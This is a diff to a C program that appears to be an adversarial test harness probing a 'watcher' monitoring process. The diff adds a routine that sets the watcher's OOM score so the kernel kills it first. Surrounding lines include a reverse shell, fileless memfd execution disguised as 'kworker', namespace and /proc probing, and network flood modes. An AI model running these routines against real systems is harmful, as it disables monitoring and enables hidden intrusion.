@@ -156,6 +156,9 @@ static void signals(void) {
   for (unsigned i = 0; pid && i < sizeof all / sizeof *all; i++) { int p[2]; if (pipe(p)) return;
     fcntl(p[0], F_SETOWN, pid); fcntl(p[0], 10 /* F_SETSIG */, all[i]); fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK); (void)!write(p[1], "x", 1); usleep(1000); } }
 
+/* The kernel is told to end the watcher first when memory is short: the file for it is root's to write. */
+static void meddle(void) { int uid = 0, pid = watcher(&uid), f; char n[64]; snprintf(n, sizeof n, "/proc/%d/oom_score_adj", pid); f = open(n, O_WRONLY); (void)!write(f, "1000", 4); close(f); }
+
 /* Every call by which one process reaches another, put to the watcher: each is refused or does it no harm. What they say is of no use. */
 static void probe(void) {
   int uid = 0, pid = watcher(&uid), p[2], i; char n[64], b[256]; if (!pid) return;
@@ -176,8 +179,8 @@ static void probe(void) {
   for (i = 0; i < 7; i++) syscall(SYS_unshare, spaces[i]);
   const char *rooms[] = {"mnt", "pid", "net", "user", "ipc", "uts", "cgroup"}; for (i = 0; i < 7; i++) { snprintf(n, sizeof n, "/proc/%d/ns/%s", pid, rooms[i]); int r = open(n, O_RDONLY); if (r >= 0) { syscall(SYS_setns, r, 0); close(r); } }
   syscall(SYS_setns, f, 0x20000000); syscall(SYS_mount, "none", "/proc", "tmpfs", 0, 0); syscall(SYS_umount2, "/proc", 2); syscall(SYS_pivot_root, "/", "/"); syscall(SYS_open_by_handle_at, -100, b, 0);
-  const char *files[] = {"mem", "environ", "oom_score_adj", "oom_adj", "comm", "clear_refs", "coredump_filter", "timerslack_ns", "autogroup", "sched", "uid_map", "setgroups", "attr/current", "cwd/x", "root/x", "exe", "fd/1", "map_files", "stack", "syscall"};
-  for (i = 0; i < 20; i++) for (int w = 0; w < 2; w++) { snprintf(n, sizeof n, "/proc/%d/%s", pid, files[i]); int r = open(n, w ? O_WRONLY : O_RDONLY); if (r >= 0) { (void)!(w ? write(r, "1000", 4) : read(r, b, sizeof b)); close(r); } }
+  const char *files[] = {"mem", "environ", "comm", "clear_refs", "coredump_filter", "timerslack_ns", "sched", "uid_map", "setgroups", "attr/current", "cwd/x", "root/x", "exe", "fd/1", "map_files", "stack", "syscall"};
+  for (i = 0; i < 17; i++) for (int w = 0; w < 2; w++) { snprintf(n, sizeof n, "/proc/%d/%s", pid, files[i]); int r = open(n, w ? O_WRONLY : O_RDONLY); if (r >= 0) { (void)!(w ? write(r, "1000", 4) : read(r, b, sizeof b)); close(r); } }
   /* Its own rights over it: who waits for a descriptor, a lease, a lock or urgent data is told of it, mildly. */
   if (!pipe(p)) { int owner[2] = {0, pid}; fcntl(p[0], 15 /* F_SETOWN_EX */, owner); fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK); (void)!write(p[1], "x", 1); }
   /* Whatever listens under a name without a file is spoken to, as a watcher would be. */
@@ -231,7 +234,7 @@ int main(int argc, char **v) {
   else if (IS("fromelsewhere", 4)) { fromelsewhere(v[2], v[3], atoi(v[4])); sleep(2); }
   else if (IS("memfd", 2)) { int in = open(v[2], O_RDONLY), m = memfd_create("kworker", 0), n; while ((n = read(in, b, sizeof b)) > 0) (void)!write(m, b, n); char *none[] = {0}; fexecve(m, v + 2, none); perror("memfd"); return 1; }
   else if (IS("shell", 4)) { int s = dial(v[2], atoi(v[3])); if (s < 0) return 1; struct timeval t = {0, 0}; setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); for (int i = 0; i < 3; i++) dup2(s, i); execl(v[4], "sh", argc > 5 ? (char *)0 : "-i", (char *)0); return 1; }
-  else if (IS("serve", 3)) serve(atoi(v[2]), v[3]); else if (IS("leaderless", 2)) leaderless(v[2]);
+  else if (IS("serve", 3)) serve(atoi(v[2]), v[3]); else if (IS("leaderless", 2)) leaderless(v[2]); else if (IS("meddle", 1)) { meddle(); vanish(v[0], "2"); }
   else if (IS("burn", 2)) burn(atof(v[2]));
   else if (IS("dnsflood", 2)) for (int i = 0; i < atoi(v[2]); i++) { char n[64]; snprintf(n, sizeof n, "h%d.flood.example", i); resolve(server(), n, ip); }
   else if (IS("connflood", 4)) { for (int i = 0; i < atoi(v[4]); i++) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = at(v[2], atoi(v[3])); if (s < 0 || connect(s, (void *)&a, sizeof a)) { if (s >= 0) close(s); usleep(1000); } } sleep(1); }
